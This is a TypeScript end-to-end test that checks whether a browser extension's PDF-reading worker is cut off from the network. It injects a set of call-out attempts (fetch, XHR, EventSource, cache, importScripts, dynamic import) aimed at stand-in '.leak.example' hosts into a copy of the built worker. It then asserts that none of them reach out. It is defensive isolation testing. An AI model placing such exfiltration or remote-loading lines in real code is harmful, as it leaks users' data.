import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { builtExtension } from '../support/browser/start/built-extension';
import { copyOf } from '../support/browser/start/extension-copy';
import type { Session } from '../support/browser/start/session';
import { until } from '../support/browser/surface/surface';
import { madePdf } from '../support/made/pdf';
import { dropFile } from './drop-file';
import { inEachBrowser } from './in-each-browser';

/** What a program that got into the worker would try, and the hosts that it would so ask. */
const TRIES: Record<string, string> = {
  fetch: `fetch('http://fetch.leak.example/?secret').catch(() => undefined)`,
  inherited: `Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, 'http://inherited.leak.example/').catch(() => undefined)`,
  xhr: `{ const ask = new XMLHttpRequest(); ask.open('GET', 'http://xhr.leak.example/'); ask.send(); }`,
  events: `new EventSource('http://events.leak.example/')`,
  cache: `caches.open('x').then((cache) => cache.add('http://cache.leak.example/')).catch(() => undefined)`,
  script: `importScripts('http://script.leak.example/')`,
  module: `import('http://module.leak.example/').catch(() => undefined)`,
};
const PROGRAM = Object.values(TRIES)
  .map((attempt) => `try { ${attempt} } catch {}`)
  .join('\n');
const DAY = ['8:00 - 8:30 Morning Meeting', '8:30 - 9:30 Writers Workshop', '9:30 - 10:30 Math Workshop'];
const PDF = madePdf(DAY.map((line, row) => [72, 700 - row * 20, line] as const));

/** A copy of a build whose PDF worker runs this program as well. */
async function withProgram(folder: string, where: 'first' | 'after'): Promise<string> {
  const assets = join(await copyOf(folder), 'assets');
  const [worker] = (await readdir(assets)).filter((file) => file.startsWith('pdf-worker'));
  const text = await readFile(join(assets, worker!), 'utf8');
  await writeFile(join(assets, worker!), where === 'first' ? `${PROGRAM}\n${text}` : `${text}\n${PROGRAM}`);
  return join(assets, '..');
}

/** Has a PDF read, and answers which tries asked somebody. */
async function askedWhile(session: Session): Promise<string[]> {
  const files = await session.openExtensionPage('files.html');
  await dropFile(files, 'Room 9.pdf', PDF);
  await until(() => files.run(() => document.querySelectorAll('.preview-title').length === 3), 'the rows of the PDF');
  return Object.keys(TRIES).filter((way) => session.outside.asked.includes(`${way}.leak.example`));
}

inEachBrowser(
  'a program in the worker that reads PDFs',
  (session) => {
    it('can ask nobody, and the PDF is read', async () => expect(await askedWhile(session())).toEqual([]));
  },
  { build: (kind) => withProgram(builtExtension(kind), 'after') },
);

inEachBrowser(
  'a program that comes before the worker is cut off',
  (session) => {
    it('would be seen to ask', async () => expect(await askedWhile(session())).toContain('fetch'));
  },
  { build: (kind) => withProgram(builtExtension(kind), 'first') },
);
